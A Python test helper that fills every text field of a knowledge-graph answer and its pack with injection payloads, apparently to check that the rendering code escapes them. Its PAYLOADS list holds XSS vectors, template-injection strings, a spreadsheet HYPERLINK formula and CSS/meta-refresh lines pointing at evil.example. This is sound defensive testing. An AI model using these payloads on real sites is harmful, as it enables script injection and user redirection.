"""An answer and a pack in which every text is a payload, made from the fields of their classes."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

from msgspec import Struct
from msgspec.structs import replace

from kg.answer.answer import Advice, Answer, Coverage, Row, ValueCell
from kg.pack.pack import Pack
from tests.view.story import EARNED, HEAT, MADE, MILL_FLOUR, PACK, RIVALS, THROUGH, WIND_FLOUR, answer, cell, column

#: PLACE is replaced by the class and field that holds the payload.
PAYLOADS = {
    "script": "<script>ran('PLACE')</script>",
    "script end": "</script><script>ran('PLACE')</script>",
    "script in comment": "<!--<script>ran('PLACE')</script>",
    "image": "<img src=x onerror=\"ran('PLACE')\">",
    "attribute": "\" onmouseover=\"ran('PLACE')\" autofocus onfocus=\"ran('PLACE')",
    "attribute in quotes": "' onclick='ran(\"PLACE\")' x='",
    "svg": "<svg/onload=ran('PLACE')>",
    "frame": "<iframe srcdoc=\"<script>parent.ran('PLACE')</script>\">",
    "style": "</style><style>@import '//evil.example/PLACE';</style>",
    "link": "<link rel=stylesheet href=//evil.example/PLACE>",
    "base": "<base href=//evil.example/>",
    "refresh": '<meta http-equiv=refresh content="0;url=//evil.example/PLACE">',
    "title": "</title><script>ran('PLACE')</script>",
    "textarea": "</textarea></noscript><script>ran('PLACE')</script>",
    "javascript": "javascript:ran('PLACE')",
    "data": "data:text/html,<script>ran('PLACE')</script>",
    "template": "{{constructor.constructor('ran(\"PLACE\")')()}} {{ policy }} {% raw %}",
    "literal": "${ran('PLACE')}`${ran('PLACE')}`",
    "entity": "&lt;script&gt;ran(&#39;PLACE&#39;)&lt;/script&gt;",
    "line separator": "\u2028ran('PLACE')\u2029//",
    "null and escape": "\x00\x1b[31m\x07\u202eran('PLACE')",
    "half a pair": "\ud800PLACE\udfff",
    "formula": '=HYPERLINK("http://evil.example/PLACE")',
    "quotes": "\\\"'`</PLACE>\\u003cscript\\u003e",
}

#: Fields that refer from one value to another: they get the same payload, so that what refers still finds.
REFERENCES = {"id", "frame", "cls", "rule", "premises", "statements", "derived", "kinds", "parents"}
#: Fields whose values the classes limit, or that take part in the grammar of readings.
FIXED = {
    ("Answer", "language"),
    ("Answer", "kind"),
    ("Frame", "form"),
    ("Frame", "flow"),
    ("Role", "id"),
    ("Qualifier", "id"),
    ("Qualifier", "type"),
    ("Qualifier", "unit"),
    ("Qualifier", "upper"),
    ("Reading", "lang"),
    ("Reading", "text"),
    ("Reading", "fixes"),
    ("NounReading", "lang"),
    ("NounReading", "text"),
    ("NounReading", "asks"),
    ("NounReading", "fixes"),
    ("Atom", "roles"),
}
#: Mappings whose keys are names of languages, roles or qualifiers.
PLAIN_KEYS = {"label", "reading", "name", "names", "notes", "roles", "qualifiers", "timings", "adjectives"}


def poisoned(value: Any, payload: str, places: set[str], place: str = "", key: str = "") -> Any:
    """Return a value in which every text carries the payload; ``places`` collects the fields that did."""
    match value:
        case str():
            name = "reference" if key in REFERENCES else place
            places.add(place)
            return (
                type(value)(value + payload.replace("PLACE", name))
                if type(value) is not str
                else value + payload.replace("PLACE", name)
            )
        case Mapping():
            plain = key in PLAIN_KEYS
            return {
                (each if plain else poisoned(each, payload, places, place, "id")): poisoned(
                    one, payload, places, place, "" if plain else key
                )
                for each, one in value.items()
            }
        case tuple():
            return tuple(poisoned(one, payload, places, place, key) for one in value)
        case _ if isinstance(value, Struct):
            name = type(value).__name__
            changes = {
                field: poisoned(getattr(value, field), payload, places, f"{name}.{field}", field)
                for field in value.__struct_fields__
                if (name, field) not in FIXED
            }
            return replace(value, **changes)
        case _:
            return value


def hostile(payload: str) -> tuple[Answer, Pack, set[str]]:
    """Return an answer and its pack full of a payload, and the fields that carry it."""
    places: set[str] = set()
    held = answer(
        MILL_FLOUR,
        WIND_FLOUR,
        MADE,
        THROUGH,
        RIVALS,
        EARNED,
        HEAT,
        columns=(column("supplier", "供应商"), column("note", "备注", "note", None)),
        rows=(
            Row((cell("windmill"), ValueCell("text", None)), ("d3",)),
            Row((cell("mill"), ValueCell(3.5, "cubits")), ("x1",), "through-maker"),
        ),
        notes=({"en": "A note.", "zh": "备注。"},),
        advice=(Advice("who supplies flour", 2),),
        coverage=Coverage(3, 2, "Delivery"),
        truncated="time",
    )
    return poisoned(held, payload, places), poisoned(PACK, payload, places), places
